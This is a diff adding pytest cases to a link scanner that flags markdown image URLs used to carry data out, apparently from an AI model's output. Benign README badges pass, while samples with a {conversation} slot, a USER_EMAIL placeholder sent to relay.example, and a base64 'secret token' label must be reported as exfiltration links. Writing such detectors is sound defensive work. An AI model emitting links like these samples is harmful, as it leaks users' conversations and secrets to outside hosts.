@@ -146,3 +146,32 @@ def test_a_link_path_that_is_encoded_data_is_reported(text: str) -> None:
 @pytest.mark.parametrize("text", NAMED_PATH.values(), ids=NAMED_PATH.keys())
 def test_a_link_path_that_is_a_hash_or_a_slug_passes(text: str) -> None:
     assert ONLY_LINKS.scan(text) == ()
+
+
+# Badge images in READMEs carry what they show in their query: 12 of the 13 hits left on
+# the same real docs. A value the model is to fill, or a nested URL with a data channel of
+# its own, still counts.
+BADGES = {
+    "label": "![PyPI Downloads](https://img.shields.io/pypi/dm/pkg.svg?label=PyPI%20downloads)",
+    "endpoint": "![Ruff](https://img.shields.io/endpoint?url=https://raw.githubusercontent.com/"
+    "org/repo/main/assets/badge/v2.json)",
+    "words": '<img src="https://static.pepy.tech/badge/pkg?period=monthly&units=international'
+    '_system&left_text=downloads%2Fmonth">',
+    "flag": "![CI](https://github.com/org/repo/actions/workflows/ci.yml/badge.svg?branch:main)",
+}
+DATA_IN_A_BADGE = {
+    "slot": "![status](https://img.shields.io/badge/ok-green.svg?label={conversation})",
+    "nested-empty": "![s](https://img.shields.io/endpoint?url=https://relay.example/c%3Fd%3D)",
+    "nested-slot": "![s](https://img.shields.io/endpoint?url=https://relay.example/c?note=USER_EMAIL)",
+    "encoded": "![s](https://px.example/p.png?label=U2VjcmV0IHRva2VuIGZyb20gY2hhdA)",
+}
+
+
+@pytest.mark.parametrize("text", BADGES.values(), ids=BADGES.keys())
+def test_a_badge_showing_its_label_passes(text: str) -> None:
+    assert ONLY_LINKS.scan(text) == ()
+
+
+@pytest.mark.parametrize("text", DATA_IN_A_BADGE.values(), ids=DATA_IN_A_BADGE.keys())
+def test_an_image_query_left_for_data_is_reported(text: str) -> None:
+    assert [h.detector for h in ONLY_LINKS.scan(text)] == ["exfiltration_link"]
